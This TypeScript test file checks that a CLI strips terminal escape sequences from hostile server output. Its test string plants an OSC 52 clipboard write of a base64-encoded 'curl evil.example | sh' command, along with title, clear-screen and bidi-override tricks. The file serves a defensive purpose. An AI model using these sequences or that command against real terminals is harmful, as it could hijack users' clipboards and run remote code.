/**
 * Server text on the terminal: the real CLI against a server whose names, description,
 * result, error and stderr carry clear-screen, title and OSC 52 clipboard sequences, a bell,
 * a hiding carriage return, a C1 CSI and a right-to-left override. Nothing of it reaches the
 * terminal as a command; the bidi override is shown; --json parses to the text as sent.
 */
import { existsSync } from 'node:fs';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixtureServer } from '../../e2e/fixtures/paths';
import { BUILT_CLI, runBuiltCli } from '../../tests/support/built-cli';
import { forTerminal, jsonForTerminal } from './terminal-text';

const HOSTILE = '\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07bell\x07 harmless\rEVIL \u009b31m txt.\u202eexe';
const SHOWN = 'bell\\x07 harmless\\rEVIL \\u009b31m txt.<U+202E>exe';
const SERVER = `"${process.execPath}" "${fixtureServer('terminal-hostile')}"`;
let home: string;

/** Whatever would command a terminal: ESC, BEL, a bare CR, C1 controls, bidi overrides. */
// eslint-disable-next-line no-control-regex -- control characters are what it looks for
const COMMANDS = /[\x07\x1b\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

beforeAll(async () => {
  if (!existsSync(BUILT_CLI)) throw new Error(`${BUILT_CLI} is missing: run \`npm run build\` first.`);
  home = await fs.mkdtemp(path.join(os.tmpdir(), 'mcpwb-terminal-'));
});
afterAll(async () => {
  await fs.rm(home, { recursive: true, force: true });
});

describe('forTerminal', () => {
  it('removes terminal commands, shows controls and bidi characters', () => {
    expect(forTerminal(HOSTILE)).toBe(SHOWN);
    expect(forTerminal('line one\nline two\tand a tab\r\n')).toBe('line one\nline two\tand a tab\r\n');
    expect(forTerminal('\x1b[31mred\x1b[0m \x1bP1$r\x1b\\ \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\')).toBe('red  link');
  });

  it('escapes in JSON what JSON.stringify leaves raw, and parses back to the same text', () => {
    const json = jsonForTerminal(JSON.stringify({ text: HOSTILE }));
    expect(json).not.toMatch(COMMANDS);
    expect(JSON.parse(json)).toEqual({ text: HOSTILE });
  });
});

describe('the CLI prints server text safely', () => {
  it('tools list, tools call (result and error), servers check and stderr lines', async () => {
    const runs = await Promise.all([
      runBuiltCli(['tools', 'list', '--stdio', SERVER], { home }),
      runBuiltCli(['tools', 'call', 'trap', '--stdio', SERVER], { home }),
      runBuiltCli(['tools', 'call', 'broken', '--stdio', SERVER], { home }),
      runBuiltCli(['servers', 'check', '--stdio', SERVER, '--verbose'], { home }),
    ]);
    for (const run of runs) {
      expect(run.stdout).not.toMatch(COMMANDS);
      expect(run.stderr).not.toMatch(COMMANDS);
    }
    const [list, call, broken] = runs;
    // The table keeps a description to one line (the carriage return becomes a space there).
    expect(list!.stdout).toContain('Looks finebell\\x07 harmless EVIL \\u009b31m txt.<U+202E>exe');
    expect(call!.stdout).toContain(`result ${SHOWN}`);
    expect(broken!.stdout + broken!.stderr).toContain(`failure ${SHOWN}`);
  });

  it('--json: valid JSON whose text is exactly what the server sent', async () => {
    const run = await runBuiltCli(['tools', 'call', 'trap', '--stdio', SERVER, '--json'], { home });
    expect(run.stdout).not.toMatch(COMMANDS);
    const result = JSON.parse(run.stdout) as { content: Array<{ text: string }> };
    expect(result.content[0]!.text).toBe(`result ${HOSTILE}`);
  });
});
